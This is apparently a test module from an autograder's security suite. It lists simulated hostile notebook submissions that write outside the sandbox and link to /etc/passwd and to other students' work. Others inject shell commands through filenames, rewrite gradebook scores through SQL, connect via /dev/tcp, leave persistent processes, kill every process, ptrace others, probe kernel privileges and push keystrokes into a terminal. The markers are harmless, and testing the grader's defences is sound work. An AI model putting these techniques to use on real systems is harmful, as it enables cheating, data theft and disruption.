"""Attacks that want to change something outside, reach somebody, or stay.

Each would leave its mark: a file by its name, a message to a listener, a process with its name in the arguments. What would hurt this machine
is done by a harmless likeness: a signal that nobody minds, a process that ends by itself.
"""

import os

from autograder.paths import notebook_path

from .attack import ADAM, CLIP, Attack, last, of_cells, of_files

host = of_cells("host")
host_files = of_files("host")

HELD = """@MENDED@
import contextlib, os, sys

def reached(what):
    print("REACHED" + ":@MARK@", what)

"""


def attempt(*lines):
    """Code that tries each line by itself, and says nothing of those that fail."""
    return "".join(f"with contextlib.suppress(BaseException):\n    {line}\n" for line in lines)


def linked(target):
    """A notebook that is a link to `target`."""

    def write(release, path):
        path.symlink_to(release.fill(target))

    return write


def links_beside(release, path):
    """A right notebook, with links to secrets and to folders beside it, which whoever copies the folder would follow."""
    for name, target in (
        ("data.txt", "/etc/passwd"),
        ("outside.txt", "@OUTSIDE@/secret.txt"),
        ("neighbour", "@ROOT@/submitted/@NEIGHBOUR@"),
        ("seed.txt", "@ROOT@/private_seed.txt"),
        ("all", "/"),
        ("loop", "loop"),
        ("up", "../../.."),
    ):
        (path.parent / name).symlink_to(release.fill(target))
    show = "import os\nfor name in ('data.txt', 'outside.txt', 'seed.txt'):\n    print(open(name).read() if os.path.exists(name) else 'nothing')"
    release.write(release.handed_in([ADAM], extra=[(ADAM, show)]), path.parent.parent)


def linked_folder(release, folder):
    """The stage's folder is a link to the neighbour's."""
    notebook_path(folder, release.stage).parent.symlink_to(release.fill("@ROOT@/submitted/@NEIGHBOUR@/") + release.stage)


def hard_link(release, path):
    """The notebook is a second name of a file outside."""
    os.link(release.fill("@OUTSIDE@/keep.txt"), path)


def names_that_climb(release, path):
    """A right notebook, and files and folders whose names climb, glob, hide or give options."""
    release.write(release.handed_in([ADAM]), path.parent.parent)
    for name in (
        "-rf",
        "--help",
        "*",
        "..\\..\\x",
        "$(touch @MARK@)",
        ";touch @MARK@",
        "{student_id}",
        ".ipynb_checkpoints",
        "%s%n",
    ):
        (path.parent / release.fill(name)).write_text("x")


ATTACKS = [
    host(
        "writes-outside",
        "Appends to, empties, renames, links, opens up and deletes files outside, and makes new ones.",
        fix={
            ADAM: HELD
            + attempt(
                "open('@OUTSIDE@/keep.txt', 'a').write('@MARK@')",
                "open('@OUTSIDE@/new.txt', 'w').write('@MARK@')",
                "open('@OUTSIDE@/.bashrc', 'a').write('@MARK@')",
                "os.makedirs('@OUTSIDE@/.jupyter/custom'); open('@OUTSIDE@/.jupyter/custom/custom.js', 'w').write('@MARK@')",
                "os.mkdir('@OUTSIDE@/folder')",
                "os.symlink('/etc/passwd', '@OUTSIDE@/link')",
                "os.link('@OUTSIDE@/keep.txt', '@OUTSIDE@/second')",
                "os.chmod('@OUTSIDE@/keep.txt', 0o4777)",
                "os.utime('@OUTSIDE@/keep.txt', (0, 0))",
                "os.truncate('@OUTSIDE@/keep.txt', 0)",
                "os.rename('@OUTSIDE@/secret.txt', '@OUTSIDE@/renamed')",
                "os.setxattr('@OUTSIDE@/keep.txt', 'user.mark', b'@MARK@')",
                "os.mkfifo('@OUTSIDE@/fifo')",
                "os.unlink('@OUTSIDE@/keep.txt')",
            )
        },
        earned=(ADAM,),
    ),
    host(
        "strews-files",
        "Leaves a file in every place that is writable to many: home, temporary folders, Python's own, the course, the class.",
        fix={
            ADAM: HELD
            + """
import pwd, sysconfig, clinic
places = ["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", "@ROOT@", "@PROJECT@", "@PROJECT@/course", "@PROJECT@/solutions", sys.prefix, "/"]
places += [os.path.dirname(np.__file__), os.path.dirname(clinic.__file__), sysconfig.get_paths()["purelib"], "@ROOT@/submitted/@NEIGHBOUR@/optimizers"]
with contextlib.suppress(KeyError):
    places.append(pwd.getpwuid(os.getuid()).pw_dir)
for place in places:
    with contextlib.suppress(OSError):
        open(os.path.join(place, "@MARK@"), "w").write("@MARK@")
"""
        },
        earned=(ADAM,),
    ),
    host(
        "changes-the-class",
        "Appends to the class's settings, to others' submissions and feedback, to the course and to its own submission.",
        fix={
            ADAM: HELD
            + """
import glob
for pattern in ("@ROOT@/*.py", "@ROOT@/*.txt", "@ROOT@/submitted/*/*/*.ipynb", "@ROOT@/autograded/*/*/*", "@ROOT@/feedback/*/*/*",
                "@PROJECT@/course/clinic/check.py", "@PROJECT@/nbgrader_config.py", "@PROJECT@/solutions/*/*.ipynb", "*.ipynb", "../*/*.ipynb"):
    for path in glob.glob(pattern):
        with contextlib.suppress(OSError):
            with open(path, "a"):
                reached(path)
            os.utime(path, (0, 0))
"""
        },
        earned=(ADAM,),
    ),
    host(
        "updates-the-gradebook",
        "Gives itself full marks in the gradebook, now and by a trigger later.",
        fix={
            ADAM: HELD
            + """
import sqlite3
for path in ("@ROOT@/gradebook.db", "../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    with contextlib.suppress(sqlite3.Error):
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
            book.execute("CREATE TRIGGER more AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 1000; END")
            book.execute("UPDATE grade_cell SET max_score = 1000")
"""
        },
        earned=(ADAM,),
    ),
    host_files(
        "links-beside-it",
        "Hands in links to secrets, which a copy of its folder would follow.",
        links_beside,
        earned=(ADAM,),
        may_refuse=True,
        secret=lambda facts: (facts.first_of_passwd, facts.outside_canary, facts.neighbours_canary, *facts.seed_texts()),
    ),
    host_files(
        "linked-notebook",
        "Hands in a link to the solutions as its notebook.",
        linked("@PROJECT@/solutions/optimizers/optimizers.ipynb"),
    ),
    host_files(
        "linked-neighbour",
        "Hands in a link to somebody else's notebook as its own.",
        linked("@ROOT@/submitted/@NEIGHBOUR@/optimizers/optimizers.ipynb"),
        secret=lambda facts: (facts.neighbours_canary,),
    ),
    host_files(
        "linked-passwd",
        "Hands in a link to /etc/passwd as its notebook, so that an error quotes it.",
        linked("/etc/passwd"),
        secret=lambda facts: (facts.first_of_passwd,),
    ),
    host_files("linked-device", "Hands in a link to /dev/zero as its notebook.", linked("/dev/zero")),
    Attack(
        "linked-folder",
        "host",
        "Hands in a link to somebody else's folder as its stage's folder.",
        linked_folder,
        secret=lambda facts: (facts.neighbours_canary,),
    ),
    host_files("hard-linked", "Hands in a second name of a file outside, which a repair would write into.", hard_link),
    host_files(
        "names-that-climb",
        "Hands in files whose names climb, glob, hide or give options.",
        names_that_climb,
        earned=(ADAM,),
        may_refuse=True,
    ),
    host(
        "network",
        "Sends its mark to listeners on this machine: TCP, UDP, unix sockets with and without a file.",
        fix={
            ADAM: HELD
            + """
import socket, urllib.request
mark = b"@MARK@"

def say(family, kind, place):
    with socket.socket(family, kind) as line:
        line.settimeout(1)
        line.connect(place)
        line.send(mark)
        reached(place)

"""
            + attempt(
                "say(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@))",
                "say(socket.AF_INET6, socket.SOCK_STREAM, ('::ffff:127.0.0.1', @TCP@))",
                "say(socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@')",
                "say(socket.AF_UNIX, socket.SOCK_STREAM, '@SOCKET@')",
                "urllib.request.urlopen('http://127.0.0.1:@TCP@/@MARK@', timeout=1)",
                "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark, ('127.0.0.1', @UDP@))",
                "os.system('exec 3<>/dev/tcp/127.0.0.1/@TCP@; echo @MARK@ >&3')",
                "socket.create_server(('127.0.0.1', 0)); reached('a server of its own')",
            )
        },
        earned=(ADAM,),
    ),
    host(
        "listeners-of-the-grader",
        "Looks in /proc/net and /tmp for sockets of Jupyter kernels, agents and buses, and connects to each.",
        fix={
            ADAM: HELD
            + """
import glob, re, socket
names = set(glob.glob("/tmp/**/*", recursive=True)[:500] + glob.glob("/run/**/*", recursive=True)[:500] + ["/var/run/docker.sock"])
with contextlib.suppress(OSError):
    names |= {line.split()[7] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7}
for name in names:
    with contextlib.suppress(OSError, ValueError), socket.socket(socket.AF_UNIX) as line:
        line.settimeout(0.2)
        line.connect(name.replace("@", "\\0", 1) if name.startswith("@") else name)
        reached(name)
with contextlib.suppress(OSError):
    for port in re.findall(r":([0-9A-F]{4}) 0+:0000 0A", open("/proc/net/tcp").read())[:20]:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", int(port, 16)), 0.2):
            reached(port)
"""
        },
        earned=(ADAM,),
    ),
    host(
        "stays",
        "Leaves processes behind, in sessions of their own, twice forked, which would run for ten minutes.",
        fix={
            ADAM: HELD
            + """
import subprocess
stay = [sys.executable, "-c", "import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(600)", "@MARK@"]
"""
            + attempt(
                "subprocess.Popen(stay, start_new_session=True)",
                "os.posix_spawn(sys.executable, stay, {'MARK': '@MARK@'})",
                "os.system('nohup setsid sleep 600 # @MARK@ &')",
                "os.spawnv(os.P_NOWAIT, sys.executable, stay)",
                "__import__('multiprocessing').get_context('spawn').Process(target=print).start()",
            )
            + """
with contextlib.suppress(OSError):
    if os.fork() == 0:
        import ctypes, time
        ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        with contextlib.suppress(BaseException):
            os.setsid()
            os.fork() and os._exit(0)
            time.sleep(600)
        os._exit(0)
"""
        },
        earned=(ADAM,),
        may_refuse=True,
    ),
    host(
        "signals",
        "Sends signals to everybody, to its group, to its parent and to a process of the instructor's.",
        fix={
            ADAM: HELD
            + """
import signal
parent = os.getppid()

def is_visible(pid):
    with contextlib.suppress(OSError):
        os.kill(pid, 0)
        return True
    return False

if is_visible(@VICTIM@):
    reached("a process of the instructor's")
"""
            + attempt(
                "os.kill(@VICTIM@, signal.SIGURG)",
                "os.kill(-1, signal.SIGURG)",
                "os.killpg(0, signal.SIGURG)",
                "os.pidfd_open(@VICTIM@); reached('by pidfd')",
                "signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGURG)",
                "os.setpriority(os.PRIO_PROCESS, @VICTIM@, 19); reached('its priority')",
                "os.sched_setaffinity(@VICTIM@, {0}); reached('its processors')",
                "__import__('resource').prlimit(@VICTIM@, __import__('resource').RLIMIT_CORE, (0, 0)); reached('its limits')",
            )
        },
        earned=(ADAM,),
    ),
    host(
        "kills",
        "Kills its parent, its group and everybody: only where the instructor's process cannot be seen, so that no tester is hurt.",
        fix={
            CLIP: HELD
            + """
import resource, signal

def kill_all():
    try:
        os.kill(@VICTIM@, 0)
        return
    except OSError:
        pass
    parent = os.getppid()
    if parent > 1:
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(parent, resource.RLIMIT_NOFILE, (0, 0))
        with contextlib.suppress(OSError):
            os.kill(parent, signal.SIGSTOP)
        with contextlib.suppress(OSError):
            os.kill(parent, signal.SIGKILL)
    if os.getpgrp() not in (0, @GROUP@):
        with contextlib.suppress(OSError):
            os.killpg(0, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)

kill_all()
"""
        },
        earned=(ADAM, CLIP),
        may_refuse=True,
    ),
    host(
        "traces",
        "Attaches to other processes, writes into their memory and takes their descriptors.",
        fix={
            ADAM: HELD
            + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
for pid in {os.getppid(), @VICTIM@, 1} - {0, os.getpid()}:
    if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE, which stops nobody
        reached(f"ptrace of {pid}")
        libc.ptrace(17, pid, None, None)
    for name, mode in (("mem", "r+b"), ("oom_score_adj", "w"), ("comm", "w"), ("environ", "rb"), ("maps", "r"), ("fd/1", "w"), ("root/etc/passwd", "r")):
        with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/{name}", mode) as file:
            file.read(1) if "r" in mode else None
            reached(f"{name} of {pid}")
    buffer = ctypes.create_string_buffer(8)
    parts = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    if libc.process_vm_readv(pid, parts, 1, (ctypes.c_size_t * 2)(id(None), 8), 1, 0) > 0:
        reached(f"process_vm_readv of {pid}")
    for number in range(8):
        if (handle := libc.syscall(434, pid, 0)) >= 0 and libc.syscall(438, handle, number, 0) >= 0:  # pidfd_open, pidfd_getfd
            reached(f"descriptor {number} of {pid}")
"""
        },
        earned=(ADAM,),
    ),
    host(
        "kernel",
        "Asks the kernel for more rights: user namespaces, mounts, modules, tracing, tunables, devices.",
        fix={
            ADAM: HELD
            + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
flags = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000}
for name, flag in flags.items():
    if libc.unshare(flag) == 0:
        reached(f"a {name} namespace")
calls = {"mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "chroot": (161, b"/tmp"), "bpf": (321, 0, 0, 0), "keyctl": (250, 0, -3, 1),
         "perf_event_open": (298, 0, 0, -1, -1, 0), "io_uring_setup": (425, 1, 0), "userfaultfd": (323, 1), "init_module": (175, 0, 0, b""),
         "setuid": (105, 0), "sethostname": (170, b"@MARK@", 12), "open_by_handle_at": (304, 0, 0, 0), "personality": (135, 0x0040000)}
buffer = ctypes.create_string_buffer(4096)
for name, (number, *args) in calls.items():
    if name in ("bpf", "perf_event_open"):
        args = [ctypes.byref(buffer) if arg == 0 and place == (1 if name == "bpf" else 0) else arg for place, arg in enumerate(args)]
    if name == "io_uring_setup":
        args = [1, ctypes.byref(buffer)]
    if libc.syscall(number, *args) >= 0 and name not in ("setuid", "keyctl", "personality"):
        reached(name)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"):
    with contextlib.suppress(OSError):
        os.close(os.open(path, os.O_WRONLY))
        reached(path)
if os.getuid() == 0 and "CapEff:\\t0000000000000000" not in open("/proc/self/status").read():
    reached("rights of root")
"""
        },
        earned=(ADAM,),
    ),
    host(
        "types-for-the-instructor",
        "Pushes characters into the instructor's terminal, and prints escape sequences that would name its window.",
        fix={
            ADAM: HELD
            + """
import fcntl
for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
    with contextlib.suppress(OSError):
        handle = os.open(path, os.O_RDWR | os.O_NOCTTY)
        if os.isatty(handle):
            reached("a terminal")
            fcntl.ioctl(handle, 0x5412, b" ")  # TIOCSTI
print("\\x1b]0;@MARK@\\x07\\x1b[2J\\x1b[31m@MARK@")
"""
        },
        earned=(ADAM,),
    ),
    host(
        "sees-its-own-submission",
        "Changes its own submission, so that it would be graded as another one the next time.",
        fix={
            ADAM: HELD
            + """
import glob, json
for path in glob.glob("@ROOT@/submitted/host-sees-its-own-submission/*/*.ipynb") + glob.glob("./*.ipynb"):
    with contextlib.suppress(OSError, ValueError):
        text = open(path).read()
        reached(path)
        open(path, "w").write(text.replace("3", "4"))
"""
        },
        extra=[(last("optimizers"), "print(open('optimizers.ipynb').read()[:100])")],
        earned=(ADAM,),
    ),
]
